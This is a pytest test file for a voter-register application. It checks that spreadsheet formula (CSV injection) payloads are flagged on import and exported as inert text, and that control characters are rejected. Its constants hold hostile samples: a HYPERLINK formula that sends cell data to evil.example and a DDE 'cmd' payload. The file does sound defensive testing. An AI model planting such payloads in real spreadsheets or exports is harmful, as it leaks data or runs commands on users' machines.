"""Spreadsheet safety (issue 16 item 6, OWASP CSV injection): cells starting with = + - @, tab or
CR are flagged on import and exported as text (XLSX: a string cell, never a formula; CSV: a
leading apostrophe, read back as the original); control characters reject the row; an upheld
correction appeal goes through the same checks (blank name, formula, over-long value → a clear
error naming the field, never a 500)."""

from __future__ import annotations

import csv
import json
from datetime import date

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update

from tests.test_appeals import a_voter, file
from tests.voters_support import LIST_DAY, import_file, make_election, noon, number, write_csv
from workflow.commands import appeals, voter_exports, voter_list
from workflow.commands.voter_files import write_csv as export_csv
from workflow.commands.voter_files import write_xlsx
from workflow.errors import DomainError
from workflow.rules.voter_rows import FORMULA_REASON
from workflow.store.voters import Appeal, Voter

HEADER = ["姓名", "公民身份号码", "选区", "住址", "备注"]
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
CMD = "=cmd|' /C calc'!A0"
PAYLOADS = [HYPERLINK, CMD, "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def _rows():
    rows = []
    for seq, payload in enumerate(PAYLOADS, 1):
        name = payload if seq <= 2 else f"测试{seq}"
        rows.append([name, number(date(1960, 1, seq), seq), "01", payload, None])
    return rows


def test_formulas_are_flagged_on_import_and_stay_text_on_export(db, clock, tmp_path):
    election_id = make_election(db, clock)
    report = import_file(db, clock, election_id, write_csv(tmp_path / "v.csv", HEADER, _rows()))
    assert report.committed and report.accepted == len(PAYLOADS)
    flagged = {(w["row"], w["column"]) for w in report.warnings if w["reason"] == FORMULA_REASON}
    assert {(2, "姓名"), (3, "姓名")} <= flagged
    assert {(row, "住址") for row in range(2, 2 + len(PAYLOADS))} <= flagged
    with db.reading() as session:
        view = voter_exports.list_view(session, election_id, which="register", full_ids=True)
        rows = list(view.rows)
        stored = set(session.execute(select(Voter.address)).scalars())
    # Stored as typed, minus the edges' stripping of surrounding blanks (tab, CR).
    assert stored == {p.strip() for p in PAYLOADS}
    xlsx = tmp_path / "out.xlsx"
    write_xlsx(xlsx, view.title, view.header, rows, view.widths)
    sheet = load_workbook(xlsx).active  # formulas kept: a formula cell would have data_type "f"
    cells = [c for row in sheet.iter_rows(min_row=3) for c in row if isinstance(c.value, str)]
    risky = [c for c in cells if c.value.startswith(("=", "+", "-", "@"))]
    assert {c.value for c in risky} >= {HYPERLINK, CMD, "+1+1", "-2+3", "@SUM(1+1)"}
    assert all(c.data_type == "s" for c in risky)
    out = tmp_path / "out.csv"
    export_csv(out, view.header, rows)
    with out.open(encoding="utf-8-sig", newline="") as handle:
        exported = [cell for row in csv.reader(handle) for cell in row]
    assert "'" + HYPERLINK in exported and "'" + CMD in exported and HYPERLINK not in exported
    assert not any(cell.startswith(("=", "+", "@")) for cell in exported)
    # The project's own CSV export reads back as the original text (the apostrophe dropped).
    other = make_election(db, clock)
    again = import_file(db, clock, other, out)
    assert again.committed and again.accepted == len(PAYLOADS)
    with db.reading() as session:
        names = set(session.execute(select(Voter.name).where(Voter.election_id == other)).scalars())
    assert {HYPERLINK, CMD} <= names


@pytest.mark.parametrize("bad", ["王\x00伟", "王\x07伟", "王\x85伟", "王\ufffe伟"])
def test_control_characters_reject_the_row(db, clock, tmp_path, bad):
    election_id = make_election(db, clock)
    rows = [
        [bad, number(date(1960, 1, 1), 1), "01", "某村", None],
        ["李四", number(date(1960, 1, 2), 2), "01", None, None],
    ]
    path = tmp_path / "v.csv"
    with path.open("w", encoding="utf-8", errors="surrogatepass", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(HEADER)
        writer.writerows(rows)
    report = import_file(db, clock, election_id, path, accept_valid=True)
    assert report.committed and report.accepted == 1
    assert [(r["row"], r["column"]) for r in report.rejected] == [(2, "姓名")]
    assert "控制字符" in report.rejected[0]["reason"]


def test_a_lone_surrogate_in_a_file_is_a_clear_error(db, clock, tmp_path):
    election_id = make_election(db, clock)
    path = tmp_path / "v.csv"
    path.write_bytes("姓名,公民身份号码,选区\n王\ud800伟,x,01\n".encode("utf-8", "surrogatepass"))
    with pytest.raises(DomainError) as refused:
        import_file(db, clock, election_id, path)
    assert refused.value.code == "E_FILE_ENCODING" and refused.value.field == "file"


@pytest.fixture
def published(db, clock, tmp_path):
    election_id = make_election(db, clock)
    rows = [["王五", number(date(1960, 1, 1), 1), "01", "某村", None]]
    import_file(db, clock, election_id, write_csv(tmp_path / "v.csv", HEADER, rows))
    clock.set(noon(LIST_DAY))
    with db.transaction() as session:
        voter_list.publish(session, election_id, clock=clock, actor="t")
    return election_id


@pytest.mark.parametrize(
    ("correction", "code", "field"),
    [
        ({"name": "  "}, "E_FIELD_BLANK", "correction.name"),
        ({"name": CMD}, "E_FORMULA", "correction.name"),
        ({"address": "@SUM(1)"}, "E_FORMULA", "correction.address"),
        ({"address": "村" * 301}, "E_TOO_LONG", "correction.address"),
        ({"voter_group": "第\x00组"}, "E_BAD_CHARACTERS", "correction.voter_group"),
    ],
)
def test_a_correction_goes_through_the_row_checks(db, clock, published, correction, code, field):
    _id, name, id_number = a_voter(db)
    with pytest.raises(DomainError) as refused:
        file(
            db,
            clock,
            published,
            date(2011, 9, 21),
            request="correct",
            subject_name=name,
            subject_id_number=id_number,
            district=None,
            reason="更正",
            correction=correction,
        )
    assert (refused.value.code, refused.value.field) == (code, field)


def test_an_appeal_filed_before_the_checks_is_refused_clearly_when_decided(db, clock, published):
    """An appeal stored with a formula (filed before these checks) cannot be carried out: the
    decision is refused with the field named, and the appeal stays pending (no 500 forever)."""
    _id, name, id_number = a_voter(db)
    appeal = file(
        db,
        clock,
        published,
        date(2011, 9, 21),
        request="correct",
        subject_name=name,
        subject_id_number=id_number,
        district=None,
        reason="更正",
        correction={"name": "王六"},
    )
    with db.transaction() as session:
        session.execute(
            update(Appeal).where(Appeal.id == appeal.id).values(correction=json.dumps({"name": CMD}))
        )
    with pytest.raises(DomainError) as refused, db.transaction() as session:
        appeals.decide_appeal(session, appeal.id, upheld=True, reason=None, clock=clock, actor="t")
    assert (refused.value.code, refused.value.field) == ("E_FORMULA", "correction.name")
    with db.reading() as session:
        assert session.get(Appeal, appeal.id).status == "pending"
        assert session.execute(select(Voter.name)).scalar_one() == "王五"


def test_appeal_texts_with_nul_are_refused_naming_the_field(db, clock, published):
    with pytest.raises(DomainError) as refused:
        file(db, clock, published, date(2011, 9, 21), filer="李\x00某")
    assert (refused.value.code, refused.value.field) == ("E_BAD_CHARACTERS", "filer")
